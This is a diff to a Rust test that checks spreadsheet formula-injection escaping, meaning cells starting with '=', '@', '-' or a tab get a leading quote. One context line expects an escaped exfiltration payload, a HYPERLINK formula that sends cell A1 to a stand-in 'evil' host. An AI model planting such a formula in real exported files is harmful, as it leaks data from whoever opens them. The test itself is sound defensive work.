@@ -152,7 +152,8 @@ fn no_name_is_a_formula_of_a_spreadsheet() {
     assert_eq!(begins('=') + begins('@'), 0);
     assert!(lines.iter().flatten().any(|cell| cell == "'=HYPERLINK(\"http://evil/\"&A1)"));
     assert!(text.contains("'@SUM(1+1)") && text.contains("a b") && !text.contains('\u{202e}'));
-    assert_eq!(["-0.5", "+1", "-", "=1"].map(|text| in_cell(text).into_owned()), ["-0.5", "+1", "'-", "'=1"]);
+    let cells = [("-0.5", "-0.5"), ("+1", "+1"), ("-", "'-"), ("=1", "'=1"), ("\t=1", "' =1"), (" a", " a")];
+    cells.into_iter().for_each(|(text, cell)| assert_eq!(in_cell(text), cell));
 }
 
 /// Readers of a file do not see the message on stderr.
